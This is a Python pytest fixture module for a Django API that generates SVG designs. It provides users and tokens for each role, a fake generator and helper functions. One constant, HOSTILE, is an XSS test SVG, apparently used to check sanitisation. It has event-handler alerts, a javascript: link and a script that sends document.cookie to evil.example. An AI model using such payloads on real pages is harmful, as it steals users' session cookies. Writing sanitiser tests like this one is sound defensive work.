"""API test fixtures: users and tokens per role, a model version behind `production`, a fake generator."""

from __future__ import annotations

import io
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import Any

import pytest
from django.core.cache import cache
from PIL import Image
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from core.jobs.models import JobStatus
from core.roles import API_CONSUMERS
from generation import engine
from generation.models import DesignOutput
from tests.shared_fixtures import user_in_role
from training.models import ModelAlias, SLMModel

CIRCLE = (
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 96 96">'
    '<circle cx="48" cy="48" r="{r}" fill="{fill}"/></svg>'
)
HOSTILE = (
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 96 96" onload="alert(document.cookie)">'
    "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
    '<a href="javascript:alert(1)"><rect x="10" y="10" width="30" height="30" fill="#1e88e5"/></a>'
    '<circle cx="60" cy="60" r="20" fill="#e53935" onclick="alert(2)"/>'
    '<foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>'
    "</svg>"
)


@dataclass
class FakeSample:
    text: str
    tokens: int
    finished: bool = True


class FakeGenerator:
    """Stands in for slm.decode.sampling.Generator: same call, canned SVG, every call recorded."""

    def __init__(self, make: Callable[[str, int], str] | None = None) -> None:
        self.make = make or (lambda prompt, i: CIRCLE.format(r=10 + 3 * i, fill="#e53935"))
        self.calls: list[dict[str, Any]] = []

    def generate(
        self,
        prompts: Sequence[str],
        n: int = 1,
        seed: int = 0,
        temperature: float = 0.0,
        max_new_tokens: int = 256,
        context: str | None = None,
    ) -> list[list[FakeSample]]:
        self.calls.append(
            {"prompts": list(prompts), "n": n, "seed": seed, "temperature": temperature, "context": context}
        )
        out = []
        for p in prompts:
            texts = [self.make(p, i) for i in range(n)]
            out.append([FakeSample(text=t, tokens=len(t) // 4) for t in texts])
        return out


@pytest.fixture(autouse=True)
def _clear_throttle_cache() -> None:
    cache.clear()


@pytest.fixture
def fake_generator(monkeypatch: pytest.MonkeyPatch) -> FakeGenerator:
    fake = FakeGenerator()
    monkeypatch.setattr(engine, "get_generator", lambda model: fake)
    return fake


@pytest.fixture
def model_version(db: Any) -> SLMModel:
    model = SLMModel.objects.create(model_name="atelier-slm", version=1, storage_path="models/atelier-slm/1")
    ModelAlias.objects.create(name="production", model_version=model)
    return model


@pytest.fixture
def owner(db: Any) -> Any:
    return user_in_role("owner", API_CONSUMERS)


@pytest.fixture
def other(db: Any) -> Any:
    return user_in_role("other", API_CONSUMERS)


@pytest.fixture
def staff(db: Any) -> Any:
    return user_in_role("staff", is_staff=True, is_superuser=True)


def client_for(user: Any | None) -> APIClient:
    client = APIClient()
    if user is not None:
        token, _ = Token.objects.get_or_create(user=user)
        client.credentials(HTTP_AUTHORIZATION=f"Token {token.key}")
    return client


@pytest.fixture
def api(owner: Any) -> APIClient:
    return client_for(owner)


def png_bytes(
    size: tuple[int, int] = (32, 32), colour: tuple[int, int, int] = (200, 30, 30), fmt: str = "PNG"
) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", size, colour).save(buf, format=fmt)
    return buf.getvalue()


def assert_field_error(
    response: Any, field: str, message: str = "", code: str = "validation_error"
) -> dict[str, Any]:
    """A 400 in the one error shape with this code, whose fields name `field` (and say `message`, when given)."""
    assert response.status_code == 400, response.content
    error = response.json()["error"]
    assert error["code"] == code, error
    assert field in error["fields"], error
    assert not message or any(message in text for text in error["fields"][field]), error
    return error


def run_jobs() -> None:
    """Run every pending generation the way the worker would (actor body, synchronously)."""
    from generation.tasks import generate

    for pk in DesignOutput.objects.filter(status=JobStatus.PENDING).values_list("pk", flat=True):
        generate(str(pk))
